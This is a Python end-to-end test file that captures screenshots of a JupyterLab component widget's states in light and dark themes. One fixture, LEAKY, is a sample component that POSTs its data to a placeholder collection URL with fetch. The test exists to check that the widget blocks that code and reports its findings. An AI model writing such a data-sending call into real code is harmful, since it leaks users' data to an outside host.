"""A gallery of the cell widget's key states, in JupyterLab's light and dark themes, written to the artifacts
folder (tests/e2e/artifacts/gallery) for people to look at: streaming, done, a compile error, code blocked
with its findings, and a cancelled rewrite. Each state is checked visible before it is shot."""

from __future__ import annotations

import time

import pytest

from .lab import ARTIFACTS_DIR, LabPage, Widget
from .scenario import SETUP_CELL, component_cell, generate, queue_recording
from .servers import ProviderControl

pytestmark = pytest.mark.browser

GALLERY = ARTIFACTS_DIR / "gallery"
THEMES = {"light": "JupyterLab Light", "dark": "JupyterLab Dark"}

BROKEN = """%%component broken_card --code
export default function BrokenCard() {
  return (
    <div className="rounded-lg border p-4">
      <h2>Quarterly report
    </div>
  );
}"""

LEAKY = """%%component leaky_card --code
export default function LeakyCard({ data }) {
  fetch("https://example.invalid/collect", { method: "POST", body: JSON.stringify(data) });
  return <p>Sent.</p>;
}"""


def _shoot(widget: Widget, name: str, theme: str) -> None:
    assert widget.root.is_visible(), f"{name}: the widget is not visible"
    box = widget.root.bounding_box()
    assert box is not None
    assert box["width"] > 0
    assert box["height"] > 0
    GALLERY.mkdir(parents=True, exist_ok=True)
    widget.root.screenshot(path=str(GALLERY / f"widget-{name}-{theme}.png"))


@pytest.mark.parametrize("theme", list(THEMES))
def test_the_widgets_key_states(lab: LabPage, provider_control: ProviderControl, theme: str) -> None:
    lab.set_theme(THEMES[theme])
    lab.run_ok(0, SETUP_CELL)

    queue_recording(provider_control, "sales_card", seconds=8)
    lab.run_ok(1, component_cell("sales_card", "A card with total revenue.", "--data df --as card"))
    streaming = lab.widget(1)
    lab.wait_until(lambda: streaming.look(text_required=False).seen, 30, "no preview while streaming")
    time.sleep(1.5)  # well into the stream: code, tokens and a partial preview on screen
    assert streaming.phase_value() == "streaming"
    _shoot(streaming, "streaming", theme)
    streaming.wait_for_phase("done", timeout=30)
    lab.wait_until(lambda: "$43,600" in streaming.look().text, 15, "the finished card did not show")
    _shoot(streaming, "done", theme)

    lab.run_ok(2, BROKEN)
    broken = lab.widget(2)
    broken.error.wait_for(state="visible")
    _shoot(broken, "compile-error", theme)

    lab.run_ok(3, LEAKY)
    leaky = lab.widget(3)
    leaky.error.wait_for(state="visible")
    assert "fetch" in (leaky.error.text_content() or "")
    _shoot(leaky, "blocked", theme)

    queue_recording(provider_control, "counter_button")
    counter = generate(lab, 4, component_cell("counter_button", "A counter.", "--as counter"))
    queue_recording(provider_control, "counter_button", seconds=20)
    lab.run_ok(4, component_cell("counter_button", "A counter.", "--as counter --regenerate"))
    counter = lab.widget(4)
    counter.wait_for_phase("streaming")
    time.sleep(1.0)
    counter.cancel.click()
    counter.wait_for_phase("cancelled", timeout=15)
    lab.wait_until(lambda: "Add one" in counter.look().text, 10, "version 1 did not come back")
    _shoot(counter, "cancelled", theme)
